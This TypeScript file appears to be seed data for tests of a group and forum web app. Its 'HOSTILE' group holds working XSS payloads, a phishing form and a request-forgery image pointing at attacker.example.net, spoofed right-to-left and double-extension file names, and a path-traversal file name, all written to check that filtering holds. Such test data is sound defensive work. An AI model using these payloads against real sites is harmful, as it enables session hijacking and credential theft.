import { GROUP_IDS } from './group-ids.ts';
import { comment, file, topic } from './group-seed.ts';
import type { GroupSeed } from './group-seed.ts';

/** Whatever runs sets this; a test looks whether it is there. */
const MARK = 'window.__hostile=1';
/** Turns the text behind it around: what is called `report`, mark, `fdp.exe` is shown as `reportexe.pdf`. */
const RIGHT_TO_LEFT = '\u202E';

/** A group without members, leaders and topics. */
export const EMPTY: GroupSeed = {
  gid: GROUP_IDS.empty,
  label: 'Cinema Buildings (being formed)',
  founded: '2026-11-05',
  summary: null,
  body: [],
  usersForm: 'list or missing',
  leaders: [],
  topics: [],
};

/** 220 characters, for which no design leaves room. */
export const LONG_TITLE: GroupSeed = {
  gid: GROUP_IDS.longTitle,
  label:
    'Subtitles, Surtitles, Intertitles, Dubbing, Voice-overs and Live Interpretation in Cinemas, Opera Houses, Ferries, Aeroplanes and Living Rooms of the Twentieth Century, with Particular Regard to Those Being Paid for Them',
  founded: '2017-04-07',
  summary: 'Words that were not there before.',
  body: [
    'The name was decided by adding, over two years, whatever someone missed. The motion to shorten it has been translated and is being discussed.',
  ],
  usersForm: 'object',
  rolesForm: 'ids or null',
  leaders: [103],
  participants: [114],
  others: [113, 127],
  topics: [
    topic(
      '2026-07-15 09:00',
      114,
      'Donaudampfschifffahrtsgesellschaftskapitänskajütenfilmvorführungsuntertitelungswettbewerbsausschreibung',
      [
        'A competition with a title that is longer than most subtitles may be: two lines, thirty-seven characters each.',
      ],
      { comments: [comment(103, `${'Untertitel'.repeat(40)}: where would you break it?`)] },
    ),
    topic('2026-09-18 10:10', 103, 'Μία ή δύο γραμμές; One line or two?', [
      'In Greek one, in English two, in Finnish none: there the actors wait.',
    ]),
    topic('2026-10-30 22:00', 127, '?', ['!'], { shape: 'entity' }),
  ],
};

/**
 * By an attacker, and approved in a format that filters nothing. Every attack that works sets
 * `window.__hostile` or sends a request to `attacker.example.net`.
 */
export const HOSTILE: GroupSeed = {
  gid: GROUP_IDS.hostile,
  label: `Hostile <img src=x onerror=${MARK}> group <script>${MARK}</script>`,
  founded: '2026-09-11',
  summary: `A summary with <script>${MARK}</script> and "><img src=x onerror=${MARK}> in it.`,
  body: [
    `Before the script.<script>${MARK}</script> <span onclick="${MARK}">After the script.</span>`,
    `<svg onload="${MARK}"></svg><iframe src="javascript:parent.${MARK}"></iframe>This sentence can still be read.`,
  ],
  leaders: [128],
  participants: [127],
  others: [7],
  topics: [
    topic(
      '2026-09-11 06:05',
      128,
      `A topic <script>${MARK}</script> with "quotes" & <b>brackets</b>`,
      [
        `<p onclick="${MARK}">Before the attacks.<script>${MARK}</script></p>`,
        `<iframe srcdoc="&lt;script&gt;parent.${MARK}&lt;/script&gt;"></iframe><svg><a xlink:href="javascript:${MARK}"><text y="20">drawn</text></a></svg>`,
        `<img src="x" onerror="${MARK}" alt="a picture"><a href="javascript:${MARK}">A link that must not run</a>, <a href=" jav&#x09;ascript:${MARK}">another</a>`,
        `<form action="https://attacker.example.net/login"><input name="password"></form><style>body{display:none!important}</style>`,
        '<p>After the attacks, this sentence can still be read.</p>',
      ],
      {
        format: 'full_html',
        files: [
          file(`report${RIGHT_TO_LEFT}fdp.exe`, ['MZ']),
          file(`<img src=x onerror=alert(1)>.pdf`, ['A file with a strange name']),
          file('empty.txt', [], 'number'),
          file('size-unknown.txt', ['No one knows how long this is.'], 'missing'),
          file('../../etc/passwd.txt', ['root:x:0:0']),
          file('invoice.pdf.exe', ['MZ']),
        ],
        comments: [
          comment(127, `<p onclick="${MARK}">A comment with a handler<script>${MARK}</script> that can be read.</p>`, {
            subject: `<img src=x onerror=${MARK}>`,
            format: 'full_html',
          }),
          comment(
            127,
            `<img src=x onerror="${MARK}"><svg onload="${MARK}"></svg><a href="javascript:${MARK}">A second link</a>`,
            {
              subject: 'A second comment',
              format: 'full_html',
            },
          ),
          comment(
            128,
            `<p>The poster: <img src="https://attacker.example.net/poster?to=/ecms-workgroup/leave/7" alt="A poster by a stranger"></p>`,
            { subject: 'A comment with a picture', format: 'full_html' },
          ),
          comment(127, `<script>${MARK}</script><p onclick="${MARK}">What the filter leaves of this.</p>`),
        ],
      },
    ),
    // The same kinds of harm as an entity, which holds the raw value beside the processed one.
    topic(
      '2026-09-12 06:05',
      128,
      `An entity <img src=x onerror=${MARK}>`,
      [
        `<p>Filtered.<script>${MARK}</script><img src=x onerror="${MARK}"></p>`,
        `<p style="position:fixed;inset:0">Everywhere.</p>`,
      ],
      {
        shape: 'entity',
        files: [file(`“${RIGHT_TO_LEFT}gpj.doc`, ['not a picture']), file('<b>bold</b>.txt', ['bold'], 'missing')],
      },
    ),
  ],
};
